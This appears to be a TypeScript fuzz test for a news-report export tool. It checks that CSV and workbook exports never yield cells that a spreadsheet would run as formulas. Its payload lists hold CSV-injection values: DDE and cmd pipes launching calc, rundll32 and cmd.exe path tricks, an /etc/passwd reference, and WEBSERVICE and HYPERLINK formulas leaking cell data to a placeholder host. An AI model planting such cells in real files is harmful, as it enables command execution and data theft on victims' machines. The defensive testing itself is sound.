import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { text as readText } from "node:stream/consumers";
import { parse } from "csv-parse/sync";
import { readSheet } from "read-excel-file/node";
import { fromBufferPromise } from "yauzl";
import { unguarded } from "../../src/core/exports/shareable.ts";
import { tableOf, text } from "../../src/core/exports/table.ts";
import { loadPacks } from "../../src/node/app/packs.ts";
import { writeCsv } from "../../src/node/exports/csv.ts";
import { formats } from "../../src/node/exports/index.ts";
import { exportOptions } from "../export-options.ts";
import { asFormulas, asTheyCame } from "../mutants/cells.ts";
import type { Dice } from "../seeded-random.ts";
import { workOut } from "../work-out.ts";
import { defineAttack } from "./attack.ts";

const packs = loadPacks();

/** Writes cells as tables; a name and a file each. */
type Guard = (cells: readonly string[], trialled: boolean) => Promise<readonly (readonly [name: string, file: string | Uint8Array])[]>;

const LEADS = ["", " ", "\u00a0", "\u3000", "\n", "\ufeff", "\u200b", "\u202e", "\0", "'", '"', ";", ","];
const SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "=+", "@=", "\u2212"];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.test/?"&A1,"more")',
  "SUM(A1:A9)",
  'WEBSERVICE(CONCAT("http://x.test/",A1))',
  'IMPORTXML("http://x.test","//a")',
  'DDE("cmd";"/C calc";"x")',
  "rundll32|'x.dll'!A",
  "A1",
  "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
  "'file:///etc/passwd'#$a.A1",
  'IMAGE("http://x.test/a.png")',
];

const cellOf = (dice: Dice): string => `${dice.pick(LEADS)}${dice.pick(SIGNS)}${dice.pick(BODIES)}${dice.chance(30) ? `\r\n${dice.pick(SIGNS)}1` : ""}`;

/** A cell that a spreadsheet takes for a formula once the blanks in front of it are gone; numbers may begin with a sign. */
const runs = (cell: string): boolean => /^[\s\ufeff\u200b\u202e\0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);

/** The cells of a table as another library reads them, and the formulas it holds. */
async function readBack(file: string | Uint8Array): Promise<{ readonly cells: readonly string[]; readonly formulas: number }> {
  if (typeof file === "string") return { cells: (parse(file, { relax_column_count: true, bom: true }) as string[][]).flat(), formulas: 0 };
  const sheet = await readSheet(Buffer.from(file));
  let formulas = 0;
  const zip = await fromBufferPromise(Buffer.from(file), { lazyEntries: true });
  for await (const entry of zip.eachEntry())
    if (entry.fileName.startsWith("xl/worksheets/")) formulas += (await readText(await zip.openReadStreamPromise(entry))).match(/<f[ >]/g)?.length ?? 0;
  return { cells: sheet.flat().map(String), formulas };
}

/** Reports whose every field is a cell of these, and what our own exports make of them. */
async function exported(cells: readonly string[]): Promise<readonly (readonly [string, string | Uint8Array])[]> {
  const folder = mkdtempSync(join(tmpdir(), "unecho-cells-"));
  try {
    const at = (index: number): string => cells[index % cells.length] as string;
    const reports = cells.map((cell, index) => ({
      title: cell,
      outlet: at(index + 1),
      author: at(index + 2),
      url: `http://post.org/${index}?${encodeURIComponent(at(index + 3))}`,
      published: "2031-05-14T09:20:00Z",
      text: `${at(index + 4)}\n\n${at(index + 5)} At least ${10 + (index % 20)} people were killed in Sund on Monday, "${at(index + 6)}" the mayor ${at(index + 7)} said.`,
    }));
    writeFileSync(join(folder, "reports.json"), JSON.stringify(reports));
    const shared = unguarded(await workOut([folder]));
    const tables = formats.filter(({ mediaType }) => /csv|spreadsheet/.test(mediaType));
    return await Promise.all(tables.map(async ({ id, write }) => [id, await write(shared, exportOptions(packs))] as const));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const product: Guard = async (cells, whole) => [
  ["a table", writeCsv(tableOf([text<string>("words", "", (cell) => cell)], cells), { hxl: false, bom: false })],
  ...(await exported(whole ? cells : cells.slice(0, 30))),
];

export const cells = defineAttack<Guard>({
  name: "cells",
  surface: "Cells that a spreadsheet would run",
  promise: "no cell of any table we write is a formula when another library reads it back, CSV and workbook alike",
  least: 500,
  weakness: "words are written into cells as they came",
  guard: product,
  mutant: async (given) => [
    ["a table", asTheyCame(given)],
    ["a workbook", await asFormulas(given)],
  ],
  async run(guard, trial) {
    const given = [...new Set(Array.from({ length: 5_000 }, () => cellOf(trial.dice)))].slice(0, trial.full ? 500 : 200);
    const escaped: string[] = [];
    let read = 0;
    const files = await guard(given, trial.full);
    for (const [name, file] of files) {
      const { cells: back, formulas } = await readBack(file);
      read += back.length;
      if (formulas > 0) escaped.push(`${name}: ${formulas} formulas`);
      escaped.push(...back.filter(runs).map((cell) => `${name}: ${JSON.stringify(cell.slice(0, 60))}`));
    }
    return { tried: given.length, escaped, spoilt: [], figures: { tables: files.map(([name]) => name), cellsReadBack: read } };
  },
});
